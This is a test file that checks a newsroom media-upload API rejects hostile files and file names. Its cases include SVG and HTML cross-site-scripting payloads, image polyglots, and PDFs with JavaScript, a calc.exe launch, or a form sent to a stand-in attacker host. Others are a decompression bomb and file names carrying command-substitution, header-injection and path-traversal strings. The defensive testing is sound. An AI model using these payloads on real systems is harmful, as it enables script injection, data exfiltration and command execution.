import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { underAttack } from '../testing/attack.fixture.ts';
import { PNG } from '../testing/checkout.fixture.ts';

const attacked = underAttack();

const SCRIPT = '4 0 <</S/JavaScript/JS(app.alert(1))>>';

describe('media', () => {
  const svg = (inside: string, attributes = ''): string =>
    `<svg xmlns="http://www.w3.org/2000/svg"${attributes}>${inside}</svg>`;
  const html = '<!doctype html><script>alert(1)</script>';
  const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

  it.each<[name: string, file: string, bytes: string | Buffer]>([
    ['a page as a picture', 'x.png', html],
    ['a page as a JPEG', 'x.jpg', html],
    ['a page behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from(html)])],
    ['a page behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from(html)])],
    ['a script that is a GIF by its first letters', 'x.gif', 'GIF89a=1;alert(document.domain)//'],
    ['a PNG called JPEG', 'x.jpg', PNG],
    ['a PNG cut short', 'x.png', PNG.subarray(0, 40)],
    [
      'an archive behind a PNG',
      'x.png',
      Buffer.concat([PNG, Buffer.from('PK\x05\x06' + '\0'.repeat(18), 'latin1')]),
    ],
    ['a picture of 60,000 by 60,000', 'x.png', withSize(PNG, 60_000)],
    ['an SVG called PNG', 'x.png', svg('<rect/>')],
    [
      'a PDF with script',
      'x.pdf',
      '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n%%EOF',
    ],
    ['something called PDF', 'x.pdf', 'MZ\x90'],
    ['a PDF with script', 'x.pdf', pdf('<</S/JavaScript/JS(app.alert(1))>>')],
    ['a PDF with script in disguise', 'x.pdf', pdf('<</S/J#61vaScrip#74/JS(app.alert(1))>>')],
    ['a PDF that starts a program', 'x.pdf', pdf('<</S /Launch /F (calc.exe)>>')],
    ['a PDF that sends a form away', 'x.pdf', pdf('<</S/SubmitForm/F(https://evil.example/)>>')],
    ['a PDF with a form of its own', 'x.pdf', pdf('<</XFA 3 0 R>>')],
    ['a PDF whose script lies packed', 'x.pdf', packedPdf('/FlateDecode', deflateSync(SCRIPT))],
    ['a PDF whose packed script is in disguise', 'x.pdf', packedPdf('[/Flate#44ecode]', deflateSync(SCRIPT))],
    ['a PDF packed in a way of its own', 'x.pdf', packedPdf('[/ASCIIHexDecode /FlateDecode]', '00')],
    [
      'a PDF that unpacks without end',
      'x.pdf',
      packedPdf('/FlateDecode', deflateSync(Buffer.alloc(70_000_000))),
    ],
    ['a PDF with a player of sounds', 'x.pdf', pdf('<</S/Rendition/JS(app.alert(1))>>')],
    ['a PDF with a player', 'x.pdf', pdf('<</Subtype/RichMedia>>')],
    ['a frame behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from('<iframe src=//evil.example>')])],
    ['a picture of a page behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from('<svg onload=alert(1)>')])],
    ['an image tag behind a GIF', 'x.gif', Buffer.concat([GIF, Buffer.from('<img src=x onerror=alert(1)>')])],
    ['an archive behind a PNG', 'x.png', Buffer.concat([PNG, Buffer.from('PK\x05\x06'.padEnd(22, '\0'))])],
    ['an SVG in another alphabet', 'x.svg', Buffer.from(`\ufeff${svg('<script/>')}`, 'utf16le')],
    ['an SVG whose style hides a word', 'x.svg', svg('<style>@im/**/port "//evil.example/x"</style>')],
    ['an SVG that loads a font', 'x.svg', svg('<style>*{src:url(//evil.example/x)}</style>')],
    ['an SVG with a step of script', 'x.svg', svg('<use href="data:image/svg+xml,%3Csvg/%3E"/>')],
    ['an SVG with a filter from outside', 'x.svg', svg('<rect filter="url(//evil.example/x#a)"/>')],
    ['an SVG that is told what to do', 'x.svg', `<?xml-stylesheet href="//evil.example/x"?>${svg('')}`],
    ['an SVG with a frame', 'x.svg', svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="//x"/>')],
    ['an SVG with an event in capitals', 'x.svg', svg('<rect OnLoad="alert(1)"/>')],
    [
      'an SVG that animates a link',
      'x.svg',
      svg('<a><animate attributeName="href" values="javascript:x"/></a>'),
    ],
    ['an SVG with script', 'x.svg', svg('<script>alert(1)</script>')],
    ['an SVG with an event', 'x.svg', svg('', ' onload="alert(1)"')],
    [
      'an SVG with a foreign object',
      'x.svg',
      svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
    ],
    ['an SVG with a link', 'x.svg', svg('<a href="javascript:alert(1)"><text>x</text></a>')],
    ['an SVG with an entity', 'x.svg', `<!DOCTYPE svg [<!ENTITY a "x">]>${svg('&a;')}`],
    ['an SVG that loads a picture', 'x.svg', svg('<image href="https://evil.example/x.png"/>')],
    ['an SVG that loads a style', 'x.svg', svg('<style>@import "https://evil.example/x.css";</style>')],
    ['an SVG that changes itself', 'x.svg', svg('<set attributeName="href" to="javascript:alert(1)"/>')],
    ['20 MB and more', 'x.pdf', `%PDF-1.7\n${' '.repeat(20 * 1024 * 1024)}\n%%EOF`],
    ['an empty file', 'x.png', ''],
  ])('refuses %s', async (_name, file, bytes) => {
    const content = Buffer.from(bytes as string).toString('base64');
    const upload = await attacked.newsroom.call('persistMedia', {
      asset: { path: `content/media/2025/04/${file}`, content, encoding: 'base64' },
    });
    const beside = await attacked.newsroom.call('persistEntry', {
      dataFiles: [{ path: 'content/pages/x.mdx', raw: 'x\n' }],
      assets: [{ path: `content/media/2025/04/${file}`, content, encoding: 'base64' }],
    });
    expect(
      [upload.status, beside.status].every((status) => status === 422 || (bytes === '' && status === 400)),
    ).toBe(true);
    attacked.expectUntouched();
  });

  it.each([
    'x.html',
    'x.js',
    'x.php.png.exe',
    'x.svg.html',
    '.png',
    '.htaccess',
    'x',
    '<img src=x onerror=alert(1)>.png',
    'a"onload="x.png',
    '$(id).png',
    '`id`.png',
    'x;id.png',
    '-rf.png',
    'nul.png',
    'x\u202Egnp.exe',
    'x\r\nSet-Cookie: a.png',
    '..\\x.png',
    'x.png\0.html',
  ])('refuses the name %j', async (name) => {
    const { status } = await attacked.newsroom.call('persistMedia', {
      asset: { path: `content/media/2025/04/${name}`, content: PNG.toString('base64'), encoding: 'base64' },
    });
    expect([400, 422]).toContain(status);
    attacked.expectUntouched();
  });

  function packedPdf(filter: string, objects: Buffer | string): Buffer {
    const start = `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter ${filter}>>\nstream\n`;
    const parts = [start, objects, '\nendstream\nendobj\n%%EOF\n'];
    return Buffer.concat(parts.map((part) => Buffer.from(part as string)));
  }

  function pdf(object: string): string {
    return `%PDF-1.7\n1 0 obj\n${object}\nendobj\n%%EOF\n`;
  }

  function withSize(png: Buffer, side: number): Buffer {
    const bytes = Buffer.from(png);
    bytes.writeUInt32BE(side, 16);
    bytes.writeUInt32BE(side, 20);
    return bytes;
  }
});
